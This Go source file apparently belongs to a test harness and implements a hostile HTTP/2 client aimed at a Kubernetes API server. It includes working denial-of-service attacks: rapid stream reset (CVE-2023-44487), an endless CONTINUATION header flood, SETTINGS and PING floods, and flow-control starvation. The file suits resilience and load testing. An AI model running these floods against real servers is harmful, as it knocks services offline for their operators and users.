package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// session is an HTTP/2 connection whose frames the hostile client writes itself.
type session struct {
	io.Closer
	*http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	token   string
	next    uint32 // stream
}

// open starts a session. It reads and discards everything that the server sends, unless deaf is
// true.
func (t *Target) open(ctx context.Context, token string, deaf bool, settings ...http2.Setting) (*session, error) {
	conn, err := t.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	s := &session{Closer: conn, Framer: http2.NewFramer(conn, conn), token: token, next: 1}
	s.encoder = hpack.NewEncoder(&s.block)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		_ = conn.Close()
		return nil, fmt.Errorf("begin an HTTP/2 connection: %w", err)
	}
	if err := s.WriteSettings(settings...); err != nil {
		_ = conn.Close()
		return nil, fmt.Errorf("begin an HTTP/2 connection: %w", err)
	}
	if !deaf {
		go func() { _, _ = io.Copy(io.Discard, conn) }() // until the connection ends
	}
	return s, nil
}

// encoded returns the encoded headers of a request, with more headers, given as name and value in
// turn.
func (s *session) encoded(method, path string, more ...string) []byte {
	s.block.Reset()
	all := append([]string{":method", method, ":scheme", "https", ":authority", "kubernetes.default.svc", ":path", path}, more...)
	if s.token != "" {
		all = append(all, "authorization", "Bearer "+s.token)
	}
	for i := 0; i < len(all); i += 2 {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}) // no error: it writes to memory
	}
	return s.block.Bytes()
}

// ask opens a stream.
func (s *session) ask(method, path string, ends bool, more ...string) (stream uint32, err error) {
	stream, s.next = s.next, s.next+2
	return stream, s.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, EndStream: ends, EndHeaders: true, BlockFragment: s.encoded(method, path, more...),
	})
}

// flooding writes the same frame repeatedly, on a connection whose answers it does not read.
func flooding(most int, write func(*session) error) func(context.Context, *Target, int) error {
	return func(ctx context.Context, t *Target, _ int) error {
		s, err := t.open(ctx, "", true)
		if err != nil {
			return err
		}
		defer func() { _ = s.Close() }()
		for range most {
			if write(s) != nil {
				return nil // the server has ended the connection
			}
		}
		return nil
	}
}

func settings(s *session) error {
	return s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
}

func ping(s *session) error { return s.WritePing(false, [8]byte{}) }

// continuing sends the headers of one request endlessly.
func continuing(ctx context.Context, t *Target, i int) error {
	begun := false
	return flooding(1000, func(s *session) error {
		if !begun {
			begun = true
			return s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.encoded("GET", t.resource(i))})
		}
		s.block.Reset()
		_ = s.encoder.WriteField(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("x", 8000)})
		return s.WriteContinuation(1, false, s.block.Bytes())
	})(ctx, t, i)
}

// resetting opens streams and resets them at once (CVE-2023-44487).
func resetting(ctx context.Context, t *Target, i int) error {
	s, err := t.open(ctx, t.token(i), false)
	if err != nil {
		return err
	}
	defer func() { _ = s.Close() }()
	for n := range 400 {
		stream, err := s.ask("GET", t.resource(n), true)
		if err != nil || s.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return nil
		}
	}
	return nil
}

// notReading requests a large document on many streams, and leaves no flow-control window for the
// answers.
func notReading(ctx context.Context, t *Target, i int) error {
	s, err := t.open(ctx, t.token(i), false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	defer func() { _ = s.Close() }()
	for range 50 {
		if _, err := s.ask("GET", t.Large, true); err != nil {
			return nil
		}
	}
	<-ctx.Done()
	return nil
}
